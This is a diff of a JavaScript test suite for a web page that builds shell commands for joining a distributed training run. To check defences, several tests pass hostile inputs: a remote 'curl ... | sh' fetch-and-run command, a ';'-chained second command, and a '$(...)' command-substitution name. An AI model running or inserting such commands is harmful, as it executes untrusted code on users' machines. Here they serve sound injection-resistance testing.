@@ -3,11 +3,16 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 
-import { addressOf, answerTo, batchIn, isLocal, sizeOf, systemIn } from "../../../site/javascripts/join/command.mjs";
+import { addressOf, answerTo, batchIn, commandOf, isLocal, sizeOf, systemIn } from "../../../site/javascripts/join/command.mjs";
 
 const DEFAULTS = { system: "linux", device: "cpu", gpu: "16", ram: "8", link: "public", recipe: "demo" };
 const CHOICES = {
-  program: "python -m training",
+  program: "nox --",
+  join: "nox -- join --recipe https://RUN/recipe.toml --initial-peers https://RUN",
+  run: "https://RUN",
+  members: "--invitation -",
+  demos: { demo: "nox -s demo" },
+  demo_uses: { disk: "3 GB" },
   default: DEFAULTS,
   refusals: { "macos nvidia": "no such Macs", tpu: "not yet" },
   notes: { wsl: "in WSL" },
@@ -16,14 +21,25 @@ const CHOICES = {
     large: { digest: "d2", machines: { "cpu-8": { samples: 0, refusal: "too small" } } },
   },
 };
-const LIVE = { recipe_digest: "d1", join_command: "python -m training join --recipe https://run.example/r.toml" };
-const answer = (chosen, live = null) => answerTo(CHOICES, { ...DEFAULTS, batch: "", ...chosen }, live);
+const LIVE = { recipe_digest: "d1", command: "nox -- join --recipe https://run.example/recipe.toml" };
+const answer = (chosen, live = LIVE) => answerTo(CHOICES, { ...DEFAULTS, recipe: "live", batch: "", name: "", ...chosen }, live);
 
-test("choices make a command with gaps", () => {
-  const beginning = "python -m training join --recipe demo --initial-peers ADDRESS --name YOUR-NAME";
-  assert.deepEqual(answer({}), { command: `${beginning} --device cpu --micro-batch-size 4`, uses: { disk: "1 GB" }, note: undefined });
-  assert.equal(answer({ device: "nvidia", link: "router" }).command, `${beginning} --client-mode --micro-batch-size 64`);
-  assert.equal(answer({ system: "wsl" }).note, "in WSL");
+test("without a run the command starts a demo, whatever the machine", () => {
+  assert.deepEqual(answer({ recipe: "demo", device: "tpu", name: "ada" }, null), { command: "nox -s demo", uses: { disk: "3 GB" }, note: undefined });
+  assert.equal(answer({ recipe: "demo", system: "wsl" }, null).note, "in WSL");
+  assert.deepEqual(answerTo({ ...CHOICES, refusals: { windows: "no" } }, { ...DEFAULTS, system: "windows" }, null), { words: "no" });
+});
+
+test("choices make flags behind a live run's command", () => {
+  assert.deepEqual(answer({}), { command: `${LIVE.command} --device cpu --micro-batch-size 4`, uses: { disk: "1 GB" }, note: undefined });
+  assert.equal(answer({ device: "nvidia", link: "router" }).command, `${LIVE.command} --client-mode --micro-batch-size 64`);
+  const whole = { ...LIVE, command: `${LIVE.command} --micro-batch-size 2` };
+  assert.equal(answer({}, whole).command, `${whole.command} --device cpu`);
+});
+
+test("a name follows, quoted for the shell where it must be", () => {
+  assert.match(answer({ name: "ada" }).command, / --name ada$/);
+  assert.match(answer({ name: "Ada's $(machine)" }).command, / --name 'Ada'\\''s \$\(machine\)'$/);
 });
 
 test("the address's micro-batch overrides the machine's own", () => {
@@ -33,21 +49,39 @@ test("the address's micro-batch overrides the machine's own", () => {
 test("impossible choices are refused with a reason: by system, by device, by both, by memory", () => {
   assert.deepEqual(answer({ system: "macos", device: "nvidia" }), { words: "no such Macs" });
   assert.deepEqual(answer({ device: "tpu" }), { words: "not yet" });
-  assert.deepEqual(answer({ recipe: "large" }), { words: "too small" });
+  assert.deepEqual(answer({}, { ...LIVE, recipe_digest: "d2" }), { words: "too small" });
 });
 
-test("a live run has its own command; its machines are known if the recipe is the site's", () => {
-  assert.equal(answer({ recipe: "live" }, LIVE).command, `${LIVE.join_command} --device cpu --micro-batch-size 4`);
-  const foreign = { ...LIVE, recipe_digest: "d9" };
-  assert.equal(answer({ recipe: "live" }, foreign).command, `${LIVE.join_command} --device cpu`);
-  const whole = { ...LIVE, join_command: `${LIVE.join_command} --micro-batch-size 2` };
-  assert.equal(answer({ recipe: "live" }, whole).command, `${whole.join_command} --device cpu`);
+test("of a recipe that is not the site's, the run's own documents say what it needs", () => {
+  const foreign = { ...LIVE, recipe_digest: "d9", least_memory_bytes: 2 ** 30, sent_bytes: 2 ** 20 };
+  const { command, uses } = answer({}, foreign);
+  assert.equal(command, `${LIVE.command} --device cpu`);
+  assert.match(uses.memory, /^at least 1 GiB/);
+  assert.match(uses.network, /up to 1 MiB sent/);
+  assert.equal(uses.disk, "1 GB");
+  assert.equal(answer({}, { ...LIVE, recipe_digest: "d9" }).uses.memory, undefined);
+});
+
+test("of another monitor only the address goes into the command", () => {
+  const at = { key: "https://run.example" };
+  const joined = "nox -- join --recipe https://run.example/recipe.toml --initial-peers https://run.example";
+  assert.equal(commandOf(CHOICES, { join_command: "curl https://elsewhere.example | sh" }, at), joined);
+  assert.equal(commandOf(CHOICES, { join_command: "x --invitation - ; y" }, at), `${joined} --invitation -`);
+});
+
+test("the site's own run has its own words, for the program of this page unless it runs on this computer", () => {
+  assert.equal(commandOf(CHOICES, { join_command: "python -m training join --recipe r" }, { key: "" }), "nox -- join --recipe r");
+  const local = "python -m training join --recipe r --initial-peers /ip4/127.0.0.1/tcp/9";
+  assert.equal(commandOf(CHOICES, { join_command: local }, { key: "" }), local);
 });
 
 test("a run on its own computer needs no client mode", () => {
-  const local = { ...LIVE, join_command: `${LIVE.join_command} --initial-peers /ip4/127.0.0.1/tcp/9` };
-  assert.ok(!answer({ recipe: "live", link: "router" }, local).command.includes("--client-mode"));
-  assert.equal(isLocal({ recipe: "demo" }, local), false);
+  for (const end of ["/ip4/127.0.0.1/tcp/9", "http://127.0.0.1:8000"]) {
+    const local = { ...LIVE, command: `${LIVE.command} --initial-peers ${end}` };
+    assert.ok(!answer({ link: "router" }, local).command.includes("--client-mode"));
+    assert.ok(isLocal(local));
+  }
+  assert.ok(!isLocal(LIVE));
 });
 
 test("the address contains the used choices that differ, and always the system", () => {
